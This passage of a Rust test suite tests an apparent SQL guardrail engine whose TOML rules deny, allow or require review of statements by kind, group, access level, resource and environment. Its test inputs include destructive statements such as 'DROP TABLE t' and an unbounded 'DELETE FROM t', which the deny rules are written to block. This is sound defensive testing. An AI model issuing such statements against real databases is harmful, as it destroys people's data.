        run_as(&p, &Who::groups(&["eng", "sre"]), sql).action,
        Action::Allow
    );
    assert_eq!(
        run_as(&p, &Who::groups(&["dba"]), sql).action,
        Action::Allow
    );

    // A rule of session conditions only applies to every (non-empty) input.
    let p = deny_when("groups = [\"suspended\"]");
    assert_eq!(
        run_as(&p, &Who::groups(&["suspended"]), "SELECT 1").action,
        Action::Deny
    );
    assert_eq!(
        run_as(&p, &Who::groups(&["suspended"]), "").action,
        Action::Allow
    );
}

#[test]
fn access_levels() {
    let p =
        deny_when("kinds = [\"insert\", \"update\", \"delete\"], access_levels = [\"read-only\"]");
    let sql = "INSERT INTO t VALUES (1)";
    assert_eq!(
        run_as(&p, &Who::level(Some("read-only")), sql).action,
        Action::Deny
    );
    assert_eq!(
        run_as(&p, &Who::level(Some("read-write")), sql).action,
        Action::Allow
    );
    // No access level never matches a rule that names access levels.
    assert_eq!(run_as(&p, &Who::level(None), sql).action, Action::Allow);
    assert_eq!(
        run_as(&p, &Who::level(Some("read-only")), "SELECT 1").action,
        Action::Allow
    );
}

#[test]
fn resource_and_environment_scope() {
    let p = policy(
        "[[guardrail]]\nname = \"r\"\naction = \"deny\"\nmatch = { kinds = [\"drop\"] }\n\
         resources = [\"pg-prod*\", \"billing-?\"]\nenvironments = [\"prod\", \"prod-*\"]\n",
    );
    let sql = "DROP TABLE t";
    let cases: &[(&str, &str, Action)] = &[
        ("pg-prod-main", "prod", Action::Deny),
        ("pg-prod", "prod-eu", Action::Deny),
        ("PG-PROD-EU", "PROD", Action::Deny),
        ("billing-1", "prod", Action::Deny),
        ("billing-12", "prod", Action::Allow),
        ("pg-staging", "prod", Action::Allow),
        ("pg-prod-main", "staging", Action::Allow),
        ("pg-prod-main", "production", Action::Allow),
    ];
    for &(resource, environment, want) in cases {
        assert_eq!(
            run_as(&p, &Who::at(resource, environment), sql).action,
            want,
            "{resource} / {environment}"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Precedence

const LAYERED: &str = r#"
[[guardrail]]
name = "review-writes"
match = { kinds = ["insert", "update", "delete"] }
action = "review"
approvers = ["group:dba"]

[[guardrail]]
name = "review-deletes"
match = { kinds = ["delete"] }
action = "review"
approvals = 2
message = "two approvals for deletes"

[[guardrail]]
name = "ops-may-write"
match = { kinds = ["insert", "update"], groups = ["ops"] }
action = "allow"
message = "ops carve-out"

[[guardrail]]
name = "no-audit-writes"
match = { tables = ["audit.*"], kinds = ["insert", "update", "delete"] }
action = "deny"
message = "audit is append-only by the system"

[[guardrail]]
name = "no-unbounded"
match = { without_where = true }
action = "deny"

[[guardrail]]
name = "anyone-selects"
match = { kinds = ["select"] }
action = "allow"
"#;

#[test]
fn precedence_deny_over_allow_over_review_over_default() {
    let p = policy(LAYERED);
    let ops = Who::groups(&["ops"]);

    // Nothing matches: default allow.
    let d = run(&p, "SHOW work_mem");
    assert_eq!(
        d,
        Decision {
            action: Action::Allow,
            rule: None,
            message: None,
            approvals: 0,
            approvers: vec![],
            max_approval_minutes: 0,
            matched: vec![],
        }
    );

    // Only reviews match: the first in file order decides, with its approvers.
    let d = run(&p, "UPDATE t SET x = 1 WHERE id = 1");
    assert_eq!(verdict(&d), (Action::Review, Some("review-writes")));
    assert_eq!(
        (d.approvals, d.approvers.clone()),
        (1, vec!["group:dba".to_owned()])
    );
    assert_eq!(d.message.as_deref(), Some("blocked by policy"));
    let d = run(&p, "DELETE FROM t WHERE id = 1");
    assert_eq!(verdict(&d), (Action::Review, Some("review-writes")));
    assert_eq!(d.matched, ["review-writes", "review-deletes"]);

    // An allow beats reviews and keeps its own message.
    let d = run_as(&p, &ops, "UPDATE t SET x = 1 WHERE id = 1");
    assert_eq!(verdict(&d), (Action::Allow, Some("ops-may-write")));
    assert_eq!(d.matched, ["review-writes", "ops-may-write"]);
    assert_eq!(d.message.as_deref(), Some("ops carve-out"));
    assert_eq!((d.approvals, d.approvers.len()), (0, 0));

    // A deny beats an allow and reviews; the first deny names the decision, all matches are
    // listed in file order.
    let d = run_as(&p, &ops, "UPDATE audit.log SET x = 1");
    assert_eq!(verdict(&d), (Action::Deny, Some("no-audit-writes")));
    assert_eq!(
        d.message.as_deref(),
        Some("audit is append-only by the system")
    );
    assert_eq!(
        d.matched,
        [
            "review-writes",
            "ops-may-write",
            "no-audit-writes",
            "no-unbounded"
        ]
    );
    assert_eq!((d.approvals, d.approvers.len()), (0, 0));
    let d = run(&p, "DELETE FROM t");
    assert_eq!(verdict(&d), (Action::Deny, Some("no-unbounded")));
    assert_eq!(d.message.as_deref(), Some("blocked by policy"));

    // One decision for the whole input: an allowed SELECT does not rescue a denied DELETE.
    let d = run(&p, "SELECT 1; DELETE FROM t");
    assert_eq!(verdict(&d), (Action::Deny, Some("no-unbounded")));
    assert_eq!(
        d.matched,
        [
            "review-writes",
            "review-deletes",
            "no-unbounded",
            "anyone-selects"
        ]
    );
    // ...and an allow in one statement beats a review in another.
    let d = run(&p, "SELECT 1; DELETE FROM t WHERE id = 1");
    assert_eq!(verdict(&d), (Action::Allow, Some("anyone-selects")));
}

#[test]
fn allow_never_overrides_deny_regardless_of_order() {
    let p = policy(
        "[[guardrail]]\nname = \"first-allow\"\naction = \"allow\"\nmatch = { kinds = [\"drop\"] }\n\
         [[guardrail]]\nname = \"then-deny\"\naction = \"deny\"\nmatch = { kinds = [\"drop\"] }\n\
         [[guardrail]]\nname = \"then-review\"\naction = \"review\"\nmatch = { kinds = [\"drop\"] }\n",
    );
    let d = run(&p, "DROP TABLE t");
    assert_eq!(verdict(&d), (Action::Deny, Some("then-deny")));
    assert_eq!(d.matched, ["first-allow", "then-deny", "then-review"]);
}

#[test]
fn empty_input_is_allowed_without_consulting_rules() {
    let p = policy(
        "[[guardrail]]\nname = \"everything\"\naction = \"deny\"\nmatch = { regex = \".*\" }\n",
    );
    for sql in ["", "   ", "-- just a comment", "/* c */", ";"] {
        assert_eq!(verdict(&run(&p, sql)), (Action::Allow, None), "{sql:?}");
    }
    assert_eq!(run(&p, "SELECT 1").action, Action::Deny);
}

#[test]
fn on_parse_error_variants() {
    let rules = "[[guardrail]]\nname = \"catch-all\"\naction = \"deny\"\nmatch = { regex = \".\" }\n\
                 [[guardrail]]\nname = \"allow-all\"\naction = \"allow\"\nmatch = { regex = \".\" }\n";
    let bad_sql = "SELEC * FROM t";
    for (setting, want) in [
        ("", Action::Deny),
        ("on_parse_error = \"deny\"\n", Action::Deny),
        ("on_parse_error = \"review\"\n", Action::Review),
        ("on_parse_error = \"allow\"\n", Action::Allow),
    ] {
        let p = policy(&format!("{setting}{rules}"));
        let d = run(&p, bad_sql);
        assert_eq!(verdict(&d), (want, Some("on_parse_error")), "{setting}");
        assert!(d.matched.is_empty(), "no rule is consulted: {d:?}");
        match want {
            Action::Deny => {
                assert!(
                    d.message
                        .as_deref()
                        .unwrap()
                        .starts_with("statement could not be parsed")
                );
                assert_eq!(d.approvals, 0);
            }
            Action::Review => {
                assert!(d.message.is_some());
                assert_eq!((d.approvals, d.approvers.len()), (1, 0));
            }
            Action::Allow => assert_eq!((d.message, d.approvals), (None, 0)),
        }
    }
    // The empty policy denies what it cannot parse and allows everything else.
    let d = run(&Policy::empty(), bad_sql);
    assert_eq!(verdict(&d), (Action::Deny, Some(ON_PARSE_ERROR)));
    assert_eq!(
        verdict(&run(&Policy::empty(), "DROP TABLE t")),
        (Action::Allow, None)
    );
}

#[test]
fn parse_never_panics_and_every_error_has_a_line() {
    // Every one-line deletion and every one-line truncation of the example policy, plus odd
    // shapes: parse must return, and every error must say where it is.
    let text = include_str!("../examples/guardrails.toml");
    let lines: Vec<&str> = text.lines().collect();
    let mut inputs: Vec<String> = Vec::new();
    for i in 0..lines.len() {
        let mut without = lines.clone();
        without.remove(i);
        inputs.push(without.join("\n"));
        let mut cut = lines.clone();
        let half = lines[i].chars().count() / 2;
        let end = lines[i].char_indices().nth(half).map_or(0, |(at, _)| at);
        cut[i] = &lines[i][..end];
        inputs.push(cut.join("\n"));
    }
    inputs.extend(
        [
            "guardrail = [1, \"x\"]",
            "guardrail = []",
            "[[guardrail]]",
            "[[guardrail]]\nname = \"x\"\naction = \"deny\"\nmatch = { kinds = [[\"drop\"]] }",
            "[[guardrail]]\nname = \"x\"\naction = 1979-05-27\nmatch = { tables = [1.5] }",
            "[[guardrail]]\nname = \"é\"\naction = \"deny\"\nmatch = { regex = \"é(\" }",
            "[[guardrail]]\nname = \"x\"\naction = \"review\"\napprovals = 99999999999999999999\nmatch = { opaque = true }",
            "[[guardrail.match]]\nkinds = [\"drop\"]",
        ]
        .map(str::to_owned),
    );
    for input in &inputs {
        if let Err(errs) = Policy::parse(input) {
            for e in &errs.errors {
                assert!(e.line.is_some() && e.column.is_some(), "{input}\n{e:?}");
                assert!(!e.message.contains('\n'), "{e:?}");
            }
        }
    }
    assert!(
        Policy::parse("guardrail = []")
            .unwrap()
            .rule_names()
            .is_empty()
    );
}

// ---------------------------------------------------------------------------------------------
// [[binding]] sections

#[test]
fn bindings_parse_alongside_guardrails() {
    let p = policy(
        r#"
on_parse_error = "deny"

[[binding]]
role = "approver"
members = ["group:dba", "user:carol@example.com"]
resources = ["pg-prod*"]
environments = ["production"]

[[guardrail]]
name = "no-drops"
action = "deny"
match = { kinds = ["drop"] }

[[binding]]
role = "admin"
members = ["group:platform"]
"#,
    );
    assert_eq!(p.rule_names(), vec!["no-drops"]);
    assert_eq!(
        p.bindings(),
        &[
            BindingSpec {
                role: "approver".into(),
                members: vec!["group:dba".into(), "user:carol@example.com".into()],
                resources: vec!["pg-prod*".into()],
                environments: vec!["production".into()],
            },
            BindingSpec {
                role: "admin".into(),
                members: vec!["group:platform".into()],
                resources: Vec::new(),
                environments: Vec::new(),
            },
        ]
    );
    assert!(policy("").bindings().is_empty());
}

#[test]
fn binding_errors_are_reported_with_their_lines() {
    single_error(
        "[[binding]]\nrole = \"owner\"\nmembers = [\"group:dba\"]\n",
        2,
        "unknown role \"owner\"",
    );
    single_error(
        "[[binding]]\nrole = \"admin\"\nmembers = [\"group:dba\", \"dba\"]\n",
        3,
        "bad member \"dba\"",
    );
    single_error(
        "[[binding]]\nrole = \"admin\"\nmembers = [\"user:nobody\"]\n",
        3,
        "bad member",
    );
    single_error(
        "[[binding]]\nrole = \"admin\"\nmembers = []\n",
        3,
        "`members` is empty",
    );
    single_error("[[binding]]\nrole = \"admin\"\n", 1, "no `members`");
    single_error("[[binding]]\nmembers = [\"group:dba\"]\n", 1, "no `role`");
    single_error(
        "[[binding]]\nrole = \"admin\"\nmembers = [\"group:dba\"]\nresources = [\"pg_[a-z]\"]\n",
        4,
        "bad pattern",
    );
    single_error(
        "[[binding]]\nrole = \"admin\"\nmembers = [\"group:dba\"]\nscope = \"all\"\n",
        4,
        "unknown field \"scope\"",
    );
    single_error("binding = \"admin\"\n", 1, "array of tables");
}

#[test]
fn every_binding_error_is_reported_at_once() {
    let errs = errors(
        r#"[[binding]]
role = "owner"
members = ["nobody"]

[[binding]]
role = "approver"
members = ["group:dba"]
environments = [""]
"#,
    );
    let lines: Vec<_> = errs.iter().map(|e| e.line).collect();
    assert_eq!(lines, vec![Some(2), Some(3), Some(8)], "{errs:#?}");
}
